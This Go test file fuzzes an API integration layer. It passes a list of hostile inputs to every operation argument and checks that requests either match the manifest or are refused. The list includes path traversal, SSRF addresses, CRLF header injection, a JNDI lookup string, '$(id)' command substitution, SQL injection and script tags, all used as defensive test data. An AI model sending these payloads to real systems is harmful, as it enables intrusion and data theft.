package integrations

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// hostileValues are what a model, a page that it read or a member may give an operation.
var hostileValues = []any{
	// Other places in the same service.
	"..", ".", "../..", "../../user", "a/../b", "./a", "a/..", "/", "//", "/etc/passwd", "a/b", "a//b", `a\b`, `..\..`, "...", "..;", "a;b", ";", "a..", "a.", ".git",
	"%2e%2e", "%2E%2E%2F", "%252f", "%252e%252e%252f", "%2f", "%5c", "%00", "%0d%0a", "%", "%zz", "%u002e", "%c0%ae%c0%ae", "..%00", "..%2f",
	// Other hosts.
	"@evil.example", "//evil.example", "//evil.example/..", "https://evil.example/", `\\evil.example`, ":443", "evil.example:80#", "user:pw@evil.example",
	"api.gіthub.com", "xn--gthub-n4a.com", "169.254.169.254", "[::1]", "javascript:alert(1)", "file:///etc/passwd", "data:,x",
	// Other parameters and members.
	"?x", "?x=1&y=2", "#x", "&x=y", "x&_method=DELETE", "x=1", "a=b;c=d", "+", " ", "a b", "a+b", "a,b", "a[0]=b", "x[]", "__proto__", "constructor", "_method",
	// Other requests.
	"\r\nHost: evil.example", "x\r\n\r\nGET /evil HTTP/1.1\r\n", "a\nb", "a\rb", "\x00", "a\x00b", "\t", "\x7f", "\u0085", "\u2028", "\x1b[31m",
	// What looks like something else.
	"{other}", "{owner}", "{", "}", "{{7*7}}", "${jndi:ldap://evil.example}", "$(id)", "`id`", "' OR 1=1 --", `"`, `","admin":true,"x":"`, `\u0022`, `{"a": {"b": [1]}}`, `[1, 2]`, "null",
	"<script>alert(1)</script>", "<!--", "&amp;", "mutation { x }", `") { id } }`,
	"a\u202eb", "\u200b", "\u2066x\u2069", "\ufeff", "\U000e0041", "\u2215", "\uff0f", "\uff0e\uff0e", "\u2024\u2024", "\u3002", "e\u0301", "👩‍👩‍👧", "𝒳", "\ufffd", "\xff", "\xed\xa0\x80", "\xc0\xaf", "a\xc3",
	"", strings.Repeat("a", 300), strings.Repeat("../", 1000), strings.Repeat("é", 5000), strings.Repeat("x", 1<<20),
	// Other types.
	"-1", "0", "1e400", "NaN", "Infinity", "-0", "0x10", "1_000", "9223372036854775808", "true", "1.5", "2026-02-30", "2026-12-02T00:00:00+99:00",
	json.Number("-1"), json.Number("1e400"), json.Number("9223372036854775808"), json.Number("1.0"), json.Number("../x"), json.Number("1,\"x\":2"), 1.5, -1, true, nil,
	[]any{}, []any{[]any{"a"}}, []any{nil}, []any{"..", "&x=y"}, map[string]any{}, map[string]any{"a": map[string]any{}}, map[string]any{"a]": "b"}, map[string]any{"a&b": "c=d"}, map[string]any{"..": "/"}, struct{}{},
}

// benign returns a value that the arg takes; nil where none was found.
func benign(a *Arg) any {
	switch a.Kind() {
	case "enum":
		return a.Values[0]
	case "list":
		if a.Of != nil && a.Of.Object != nil {
			obj := map[string]any{}
			for _, f := range a.Of.Object {
				obj[f.Name] = benign(f)
			}
			return []any{obj}
		}
		return []any{benign(a.item())}
	case "map":
		return map[string]any{"key": "value"}
	}
	for _, v := range []string{"7", "2", "x1", "id:asc", "abc", "true", "2026-12-02", "2026-12-02T15:04:05Z", "100", "1000", "usd", "USD", "me@example.com", "www.example.com", "https://example.com/", "ABC-1", "cus_1", "re_1", "in_1", "pi_1", "ch_1",
		"sub_1", "price_1", "prod_1", "12345678-1234-4234-8234-123456789012", "+44.2079460000", "GB", "0123456789abcdef0123456789abcdef01234567", strings.Repeat("x", 40)} {
		if _, why := a.canonical(v); why == "" {
			return v
		}
	}
	return nil
}

// hostileFor wraps v as the arg takes it: as it is, as an item, a field, a key or a value.
func hostileFor(a *Arg, v any) []any {
	all := []any{v}
	switch {
	case a.Kind() == "list" && a.Of != nil && a.Of.Object != nil:
		for _, f := range a.Of.Object {
			obj := benign(a).([]any)[0].(map[string]any)
			obj[f.Name] = v
			all = append(all, []any{obj})
		}
		if s, ok := v.(string); ok {
			obj := benign(a).([]any)[0].(map[string]any)
			obj[s] = "x"
			all = append(all, []any{obj})
		}
	case a.Kind() == "list":
		all = append(all, []any{v}, []any{benign(a.item()), v})
	case a.Kind() == "map":
		all = append(all, map[string]any{"key": v})
		if s, ok := v.(string); ok {
			all = append(all, map[string]any{s: "value"})
		}
	}
	return all
}

// TestHostileArgs gives every arg of every operation every hostile value. What leaves is
// the manifest's request, the value in its own place; or nothing leaves.
func TestHostileArgs(t *testing.T) {
	reg, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	var hosts []string
	for _, m := range reg.All() {
		hosts = append(hosts, m.Host)
	}
	p := newPeer(t, answer(200, `{}`), hosts...)
	cred := Credential{Kind: OAuth2, Secret: testSecret}
	ops, tried, sent := 0, 0, 0
	step := 1
	if testing.Short() {
		step = 7
	}
	for _, m := range reg.All() {
		for _, o := range m.Ops {
			ops++
			for _, a := range o.Args {
				base := Args{}
				for _, b := range o.Args {
					inOne := slices.Contains(o.OneOf, b.Name)
					// The others are there where they must be; of one_of, the one that is tried.
					if b.Required() && !inOne || inOne && b.Name == o.OneOf[0] && !slices.Contains(o.OneOf, a.Name) || b.Connection != "" {
						base[b.Name] = benign(b)
					}
				}
				base[a.Name] = benign(a)
				if c, err := m.Bind(o.Name, base, nil); err != nil {
					t.Fatalf("%s.%s: no benign args: %v", m.ID, o.Name, err)
				} else if _, err := p.ExecuteAs(background, m, o.Name, base, cred); Code(err) == "refused" || len(p.requests()) != 1 {
					t.Fatalf("%s.%s was not sent: %v", m.ID, o.Name, err)
				} else if why := held(c, p.one(t)); why != "" {
					t.Fatalf("%s.%s: %s", m.ID, o.Name, why)
				}
				p.answerWith(answer(200, `{}`))
				for i := tried % step; i < len(hostileValues); i += step {
					for _, v := range hostileFor(a, hostileValues[i]) {
						tried++
						args := Args{}
						for k, v := range base {
							args[k] = v
						}
						args[a.Name] = v
						name := fmt.Sprintf("%s.%s, %s = %.60q", m.ID, o.Name, a.Name, fmt.Sprint(v))
						_, err := p.ExecuteAs(background, m, o.Name, args, cred)
						seen := p.requests()
						switch {
						case Code(err) == "refused" && len(seen) == 0:
							if s, ok := v.(string); ok && len(s) > 4 && strings.Contains(err.Error(), s) && !ownWord(s) {
								t.Errorf("%s: the error repeats the value: %.200v", name, err)
							}
							continue
						case Code(err) == "refused" || len(seen) != 1:
							t.Fatalf("%s: %v, %d requests", name, err, len(seen))
						}
						sent++
						c, err := m.Bind(o.Name, args, nil)
						if err != nil {
							t.Fatalf("%s: it was sent, and yet: %v", name, err)
						}
						if why := held(c, seen[0]); why != "" {
							t.Errorf("%s: %s\n%+v", name, why, seen[0])
						}
						if s, ok := v.(string); ok && a.Kind() == "string" && c.Args()[a.Name] != s {
							t.Errorf("%s: it became %q", name, c.Args()[a.Name])
						}
						p.answerWith(answer(200, `{}`))
					}
				}
			}
		}
	}
	t.Logf("%d operations, %d hostile values: %d calls, %d sent as the manifest says, %d refused", ops, len(hostileValues), tried, sent, tried-sent)
	if len(hostileValues) < 60 || sent == 0 || sent == tried {
		t.Error("that proves too little")
	}
}

// ownWord says whether s is a word that our messages use anyway.
func ownWord(s string) bool { return s == "null" || s == "true" || s == "constructor" }

// held holds a request against the manifest, from the manifest's own text; "" when it is
// what the manifest says.
func held(c *Call, r *seenRequest) string {
	m, o := c.Manifest, c.Op
	if r.Host != m.Host || r.Method != o.Method {
		return "it went as " + r.Method + " to " + r.Host
	}
	if why := heldPath(c, r.path()); why != "" {
		return why
	}
	if why := heldPairs(c, o.Query, r.query()); why != "" {
		return "query: " + why
	}
	allowed := []string{"Accept", "Accept-Encoding", "User-Agent", "Authorization"}
	for _, h := range m.Headers {
		allowed = append(allowed, h.Name)
		if got := r.Header.Values(h.Name); len(got) != 1 || got[0] != h.Value {
			return fmt.Sprintf("the header %s is %q", h.Name, got)
		}
	}
	if o.Method != "GET" && o.Method != "HEAD" && o.Method != "DELETE" {
		allowed = append(allowed, "Content-Length")
	}
	if o.BodyJSON != nil || o.BodyForm != nil {
		allowed = append(allowed, "Content-Type")
	}
	if o.Idempotency != nil && o.Idempotency.Header != "" {
		allowed = append(allowed, o.Idempotency.Header)
	}
	for name, values := range r.Header {
		if !slices.ContainsFunc(allowed, func(s string) bool { return strings.EqualFold(s, name) }) || len(values) != 1 {
			return fmt.Sprintf("there is a header %s: %q", name, values)
		}
	}
	switch {
	case o.BodyJSON != nil:
		dec := json.NewDecoder(strings.NewReader(r.Body))
		dec.UseNumber()
		var body any
		if err := dec.Decode(&body); err != nil {
			return "the body: " + err.Error()
		}
		if _, err := dec.Token(); err != io.EOF {
			return "something follows the body"
		}
		idem := ""
		if o.Idempotency != nil {
			idem = o.Idempotency.Body
		}
		return heldBody(c, o.BodyJSON, body, "", idem)
	case o.BodyForm != nil:
		if why := heldPairs(c, o.BodyForm, r.Body); why != "" {
			return "form: " + why
		}
	case r.Body != "":
		return "there is a body"
	}
	return ""
}

func heldPath(c *Call, path string) string {
	want, got := strings.Split(c.Op.Path, "/"), strings.Split(path, "/")
	for i, seg := range want {
		open, end := strings.IndexByte(seg, '{'), strings.IndexByte(seg, '}')
		if i >= len(got) {
			return "the path is shorter"
		}
		if open < 0 {
			if got[i] != seg {
				return "the segment " + got[i] + " is not " + seg
			}
			continue
		}
		a := c.Op.Args.Get(seg[open+1 : end])
		mine := got[i : i+1]
		if a.Kind() == "path" { // it takes as many segments as are left
			mine = got[i : len(got)-(len(want)-i-1)]
			got = slices.Concat(got[:i+1], got[i+len(mine):])
		}
		plain, err := url.PathUnescape(strings.TrimSuffix(strings.Join(mine, "/"), seg[end+1:]))
		if err != nil || plain != c.Args()[a.Name] || plain == "." || plain == ".." {
			return fmt.Sprintf("the segment %q is not %q", mine, c.Args()[a.Name])
		}
	}
	if len(got) != len(want) {
		return "the path is longer"
	}
	return ""
}

// heldPairs holds a query or form against the manifest's.
func heldPairs(c *Call, pairs Pairs, encoded string) string {
	got := map[string][]string{} // name without what a list or map adds → values
	for part := range strings.SplitSeq(encoded, "&") {
		if part == "" {
			continue
		}
		name, value, _ := strings.Cut(part, "=")
		name, err := url.QueryUnescape(name)
		value, err2 := url.QueryUnescape(value)
		if err != nil || err2 != nil {
			return "it does not decode"
		}
		if _, plain := pairs.Get(name); !plain {
			for _, p := range pairs { // the longest name of ours that it begins with
				ref := strings.TrimSuffix(strings.TrimPrefix(p.Value, "{"), "}")
				a := c.Op.Args.Get(ref)
				if a != nil && (a.Kind() == "list" || a.Kind() == "map") && strings.HasPrefix(name, p.Name+"[") && strings.HasSuffix(name, "]") {
					rest := name[len(p.Name):]
					if n := strings.Count(rest, "["); n != strings.Count(rest, "]") || n > 2 || a.Kind() == "map" && n != 1 {
						return "the name " + name
					}
					name = p.Name
				}
			}
		}
		got[name] = append(got[name], value)
	}
	for name := range got {
		if _, ok := pairs.Get(name); !ok {
			return "there is a parameter " + name
		}
	}
	args := c.Args()
	for _, p := range pairs {
		ref := strings.TrimSuffix(strings.TrimPrefix(p.Value, "{"), "}")
		a := c.Op.Args.Get(ref)
		whole := p.Value == "{"+ref+"}" && a != nil
		v, present := args[ref]
		switch {
		case !strings.Contains(p.Value, "{"):
			if !slices.Equal(got[p.Name], []string{p.Value}) {
				return fmt.Sprintf("%s is %q", p.Name, got[p.Name])
			}
		case whole && !present:
			if got[p.Name] != nil {
				return fmt.Sprintf("%s is %q without a value", p.Name, got[p.Name])
			}
		case whole && a.Kind() == "string" && v != nil:
			if !slices.Equal(got[p.Name], []string{v.(string)}) {
				return fmt.Sprintf("%s is %q, not %q", p.Name, got[p.Name], v)
			}
		case whole && a.Kind() != "list" && a.Kind() != "map":
			if len(got[p.Name]) != 1 {
				return fmt.Sprintf("%s is %q", p.Name, got[p.Name])
			}
		case whole && a.Kind() == "map":
			if v != nil && len(got[p.Name]) != len(v.(map[string]any)) {
				return fmt.Sprintf("%s is %q", p.Name, got[p.Name])
			}
		}
	}
	return ""
}

// heldBody holds a JSON value against the manifest's, member by member.
func heldBody(c *Call, t *Template, body any, path, idem string) string {
	wrong := func() string { return fmt.Sprintf("%q in the body is %.80q", path, fmt.Sprint(body)) }
	args := c.Args()
	switch {
	case t.kind == '"':
		ref, whole := t.text.whole()
		if !whole || strings.HasPrefix(ref, "item") {
			if _, ok := body.(string); !ok && len(t.text.refs()) == 0 {
				return wrong()
			}
			if len(t.text.refs()) == 0 && body != t.text.literal() {
				return wrong()
			}
			return ""
		}
		a := c.Op.Args.Get(ref)
		ok := false
		switch v := body.(type) {
		case string:
			ok = v == args[ref] || a.Kind() == "datetime"
		case json.Number:
			ok = (a.Kind() == "integer" || a.Kind() == "number") && v.String() == args[ref] || a.As != ""
		case bool:
			ok = a.Kind() == "boolean"
		case nil:
			ok = a.Clear
		case []any:
			ok = a.Kind() == "list" && len(v) == len(args[ref].([]any))
		case map[string]any:
			ok = a.Kind() == "map" && len(v) == len(args[ref].(map[string]any))
		}
		if !ok {
			return wrong()
		}
	case t.each != "":
		list, ok := body.([]any)
		if !ok {
			return wrong()
		}
		for _, it := range list {
			if why := heldBody(c, t.kids[0], it, path+".*", ""); why != "" {
				return why
			}
		}
	case t.kind == '{':
		obj, ok := body.(map[string]any)
		if !ok {
			return wrong()
		}
		for name, v := range obj {
			here := strings.TrimPrefix(path+"."+name, ".")
			if here == idem {
				continue
			}
			i := slices.IndexFunc(t.kids, func(k *Template) bool { return k.name == name })
			if i < 0 {
				return "there is a member " + here
			}
			if why := heldBody(c, t.kids[i], v, here, idem); why != "" {
				return why
			}
		}
		for _, k := range t.kids {
			if _, there := obj[k.name]; !there && !k.hasRefs() {
				return "the member " + k.name + " is missing"
			}
		}
	case t.kind == '[':
		if list, ok := body.([]any); !ok || len(list) > len(t.kids) {
			return wrong()
		}
	default:
		var want any
		dec := json.NewDecoder(bytes.NewReader([]byte(t.digit)))
		dec.UseNumber()
		if dec.Decode(&want) != nil || want != body {
			return wrong()
		}
	}
	return ""
}
